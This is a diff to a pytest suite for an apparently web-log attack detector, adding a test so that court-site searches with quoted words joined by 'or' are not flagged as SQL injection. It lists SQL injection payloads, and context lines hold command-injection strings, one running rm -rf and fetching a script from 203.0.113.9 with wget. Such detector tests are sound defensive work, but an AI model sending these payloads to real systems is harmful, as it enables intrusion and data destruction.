@@ -213,6 +213,24 @@ def test_sql_injection_with_comments_for_spaces_is_sqli(target):
 
 
 @pytest.mark.parametrize("target", [
+    "/?s=%22ketua+pengadilan%22+or+%22wakil%22",
+    "/?s=%22ketua+pengadilan%22+OR+%22wakil+ketua%22&post_type=page",
+    "/?s='cerai'+and+'gugat'", "/?s=%22putusan%22+or+2024",
+])
+def test_a_search_for_quoted_words_joined_by_or_is_no_sqli(target):
+    """A court search with quoted words and 'or' between them was SQL injection (a quote,
+    'or', a quote). Injection compares after the condition ('1'='1, "a"="a, 1=1,
+    ') or ('x' like 'x), and still is."""
+    assert patterns.target_categories(target.encode()) == ()
+    for attack in ("/?id=1' or '1'='1", '/?id=1" OR "a"="a', "/?id=1') or ('a'='a",
+                   "/?id=1' or 'x' like 'x", "/?id=1' or 1=1", "/?u=admin'||'1'='1",
+                   "/?id=1'))or(('a'<'b"):
+        assert "sqli" in patterns.target_categories(attack.encode()), attack
+    with within(20, "reading the target"):
+        patterns.target_categories(b"/?s=" + b"')or('" * (weblog.MAX_LINE // 6))
+
+
+@pytest.mark.parametrize("target", [
     "/?x=`id`", "/?host=127.0.0.1%0Aid", "/?ip=1%0auname%20-a",
     "/cgi-bin/;cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://203.0.113.9/x.sh",
 ])
